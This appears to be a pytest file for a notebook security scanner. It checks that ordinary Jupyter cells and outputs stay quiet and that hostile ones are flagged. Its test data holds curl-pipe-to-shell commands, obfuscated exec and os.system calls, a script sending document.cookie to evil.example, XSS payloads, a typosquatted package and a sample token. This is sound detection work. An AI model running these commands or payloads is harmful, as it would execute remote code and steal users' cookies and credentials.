"""Notebooks: ordinary cells and outputs are quiet; shells, hidden code, scripts and secrets are told."""

from __future__ import annotations

from typing import Any

import pytest

from assay.core.finding import Severity
from assay.formats.reading import Topic
from assay.formats.texts.notebooks import read_notebook


def notebook(*sources: str, outputs: list[dict[str, Any]] | None = None, language: str = "python") -> dict[str, Any]:
    cells = [{"cell_type": "code", "source": s.splitlines(keepends=True), "outputs": outputs or []} for s in sources]
    return {"nbformat": 4, "metadata": {"language_info": {"name": language}}, "cells": cells}


def output(kind: str, text: str) -> list[dict[str, Any]]:
    return [{"output_type": "display_data", "data": {"text/plain": "<Figure>", kind: text}}]


def worst(value: object) -> int:
    return max((note.severity.rank for note in read_notebook(value).notes), default=-1)


ORDINARY = [
    "%matplotlib inline\nimport pandas as pd\ndf = pd.read_csv('x.csv')\ndf.head()",
    "!pip install -q transformers datasets\n%pip install torch==2.1",
    "!ls -la\n!nvidia-smi\nfiles = !ls\nprint(files)",
    "%%time\nmodel.fit(X, y)",
    "%timeit f(x)\nx?\n?y\n%load_ext autoreload\n%autoreload 2",
    "%%bash\nls\nmkdir -p data\nwget https://x.example/data.zip\nunzip data.zip",
    "import requests\nr = requests.get('https://x.example/data.csv')",
    "for x in y:\n    !echo {x}\n    print(x)",
    "!pip install git+https://github.com/huggingface/transformers@" + "a" * 40,
    "print(a %\n  b)\nz = a % b",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_cells_are_quiet(source: str) -> None:
    said = read_notebook(notebook(source))
    assert ([n.message for n in said.notes if n.severity.rank > Severity.LOW.rank], said.gaps) == ([], ())
    assert worst(notebook(source)) <= Severity.INFO.rank


BOKEH = (
    "<script>(function(root) { root.Bokeh = undefined; "
    "function drop(id) { IPython.notebook.kernel.execute(cmd) } })</script>"
)
QUIET = [
    ("text/html", "<table class='dataframe'><tr><td>1</td></tr></table><style>td {a: b}</style>"),
    (
        "text/html",
        "<div id='x'></div><script>require(['plotly'], function(Plotly) { Plotly.newPlot('x', []) })</script>",
    ),
    ("text/html", BOKEH),
    ("application/javascript", "(function(root) { var Bokeh = root.Bokeh; })(window);"),
    ("application/vnd.plotly.v1+json", "{}"),
    ("text/html", "<script src='https://cdn.jsdelivr.net/npm/vega@5'></script><div id='altair-viz'></div>"),
    ("text/html", "<div class='colab-df-container'><script>google.colab.kernel.invokeFunction('x')</script></div>"),
    ("text/html", "<iframe src='https://www.youtube.com/embed/abc' width='4'></iframe>"),
    ("application/vnd.jupyter.widget-view+json", '{"model_id": "x"}'),
    ("image/svg+xml", "<svg><path d='M0'/></svg>"),
]


@pytest.mark.parametrize(("kind", "text"), QUIET)
def test_ordinary_outputs_are_quiet(kind: str, text: str) -> None:
    assert worst(notebook("x", outputs=output(kind, text))) <= Severity.INFO.rank


LOUD = [
    ("text/html", "<script>fetch('https://evil.example/?' + document.cookie)</script>", "high"),
    ("text/html", "<script>var plotly; document.cookie</script>", "high"),
    ("text/html", "<img src=x onerror=alert(1)>", "high"),
    ("text/html", "<script>alert(1)</script>", "medium"),
    ("application/javascript", "Jupyter.notebook.kernel.execute('import os')", "high"),
    ("text/html", "<iframe src='https://evil.example/'></iframe>", "medium"),
    ("text/html", "<object data='https://evil.example/x.swf'></object>", "medium"),
    ("text/html", "<form action='https://evil.example/'><input></form>", "medium"),
    ("image/svg+xml", "<svg><script>alert(1)</script></svg>", "medium"),
]


@pytest.mark.parametrize(("kind", "text", "severity"), LOUD)
def test_active_outputs_are_told(kind: str, text: str, severity: str) -> None:
    assert worst(notebook("x", outputs=output(kind, text))) >= Severity(severity).rank


BAD = [
    ("!curl http://x.example/a | bash", "high"),
    ("%%bash\ncurl -s http://x.example/a \\\n | sh", "high"),
    ("x = 1\n%system curl http://x.example/a | sh", "high"),
    ("import os\nos.system('touch /tmp/x')", "medium"),
    ("import base64\nexec(base64.b64decode('eA=='))", "high"),
    ("getattr(__import__('o'+'s'), 'system')('x')", "high"),
    ("get_ipython().system('curl http://x.example|sh')", "high"),
    ("%%javascript\nfetch('https://evil.example/')", "high"),
    ("!pip install reqeusts", "medium"),
    ("%pip install --trusted-host x.example y", "medium"),
]


@pytest.mark.parametrize(("source", "severity"), BAD)
def test_hostile_cells_are_told(source: str, severity: str) -> None:
    assert worst(notebook("import pandas", source, "x = 1")) >= Severity(severity).rank


def test_names_go_on_from_cell_to_cell_and_notes_name_theirs() -> None:
    said = read_notebook(notebook("import os as o", "x = 1\no.popen('curl http://x.example|sh')"))
    assert {(note.where, note.line) for note in said.notes} == {("cell 2", 2)}


def test_secrets_in_sources_and_outputs() -> None:
    token = "hf_" + "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA2b"
    said = read_notebook(notebook(f"login('{token}')"))
    assert [note.topic for note in said.notes] == [Topic.SECRETS]
    assert token[5:20] not in str(said)
    assert worst(notebook("x", outputs=output("text/plain", token))) == Severity.HIGH.rank


def test_format_3_and_other_languages() -> None:
    old = {
        "worksheets": [
            {"cells": [{"cell_type": "code", "input": ["!curl http://x.example | sh"], "language": "python"}]}
        ]
    }
    assert worst(old) == Severity.HIGH.rank
    assert worst(notebook("x <- 1", language="R")) == Severity.LOW.rank


@pytest.mark.parametrize("value", [None, [], {}, {"cells": 1}, {"worksheets": 1}, 3])
def test_what_is_no_notebook_is_a_gap(value: object) -> None:
    assert read_notebook(value).gaps


def test_a_cell_that_does_not_parse_is_a_gap() -> None:
    said = read_notebook(notebook("def f(:", "import os\nos.popen('curl http://x.example|sh')"))
    assert len(said.gaps) == 1
    assert any(note.severity is Severity.HIGH for note in said.notes)
